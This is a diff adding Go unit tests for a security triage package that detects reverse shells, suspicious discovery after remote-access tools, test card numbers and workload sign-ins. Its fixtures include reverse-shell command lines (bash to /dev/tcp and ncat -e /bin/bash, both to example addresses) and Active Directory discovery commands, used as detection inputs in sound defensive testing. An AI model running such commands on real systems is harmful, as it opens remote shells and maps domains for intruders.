@@ -1,0 +1,74 @@
+package triage
+
+import "testing"
+
+func TestEndpointBehaviourReadsTheWholeProcessTree(t *testing.T) {
+	for _, tc := range []struct {
+		name        string
+		raw         map[string]any
+		reverse     bool
+		serverShell bool
+		discovery   int
+		remote      string
+	}{
+		{"dev tcp from a jvm", map[string]any{"process_name": "bash", "parent_name": "java", "process_cmdline": "/bin/bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"}, true, true, 0, ""},
+		{"ncat hands over a shell", map[string]any{"FileName": "ncat", "ProcessCommandLine": "ncat 198.51.100.7 9001 -e /bin/bash"}, true, false, 0, ""},
+		{"sensor names it", map[string]any{"type": "Execution:Runtime/ReverseShell", "process": map[string]any{"name": "bash"}}, true, false, 0, ""},
+		{"remote tool then discovery", map[string]any{"processes": []any{
+			map[string]any{"name": "ScreenConnect.ClientService.exe"},
+			map[string]any{"name": "cmd.exe", "cmdline": `cmd.exe /c whoami /all & net group "domain admins" /domain & nltest /domain_trusts`},
+		}}, false, false, 3, "screenconnect"},
+		{"admin script without a session", map[string]any{"CommandLine": "powershell.exe Get-ADUser -Filter * | Export-Csv users.csv"}, false, false, 1, ""},
+		{"ordinary bash", map[string]any{"process_name": "bash", "parent_name": "sshd", "process_cmdline": "bash -lc 'tail -f /var/log/app.log'"}, false, false, 0, ""},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			f := readEndpointFields(newDoc(tc.raw), Indicators{})
+			b := f.Behaviour
+			if b.ReverseShell != tc.reverse || b.ServerSpawnsShell != tc.serverShell || b.Discovery != tc.discovery || b.RemoteAccess != tc.remote {
+				t.Errorf("behaviour %+v, want reverse %v server shell %v discovery %d remote %q", b, tc.reverse, tc.serverShell, tc.discovery, tc.remote)
+			}
+		})
+	}
+}
+
+func TestOnlyTestCards(t *testing.T) {
+	for _, tc := range []struct {
+		text string
+		want bool
+	}{
+		{"matched 4111111111111111 and 5555555555554444", true},
+		{"values: 4242 4242 4242 4242, 3714 496353 98431", true},
+		{"4111111111111111 and 4556737586899855", false}, // the second is a valid, non-test number
+		{"order 1234567890123 shipped", false},           // fails the check digit, not a card
+		{"no numbers at all", false},
+	} {
+		if got := onlyTestCards(tc.text); got != tc.want {
+			t.Errorf("onlyTestCards(%q) = %v, want %v", tc.text, got, tc.want)
+		}
+	}
+}
+
+func TestWorkloadSignInCountsCountries(t *testing.T) {
+	signIn := func(country string) map[string]any {
+		return map[string]any{"servicePrincipalId": "sp-1", "clientCredentialType": "clientSecret", "location": map[string]any{"countryOrRegion": country}}
+	}
+	for _, tc := range []struct {
+		name      string
+		raw       map[string]any
+		workload  bool
+		countries int
+		secret    bool
+	}{
+		{"one country", map[string]any{"value": []any{signIn("US"), signIn("US")}}, true, 1, true},
+		{"two countries", map[string]any{"value": []any{signIn("US"), signIn("SG")}}, true, 2, true},
+		{"a person", map[string]any{"userPrincipalName": "a@contoso.com", "location": map[string]any{"countryOrRegion": "US"}}, false, 0, false},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			d := newDoc(tc.raw)
+			workload, countries := workloadSignIn(d)
+			if workload != tc.workload || countries != tc.countries || workload && workloadSecret(d) != tc.secret {
+				t.Errorf("workload %v countries %d secret %v, want %v %d %v", workload, countries, workloadSecret(d), tc.workload, tc.countries, tc.secret)
+			}
+		})
+	}
+}
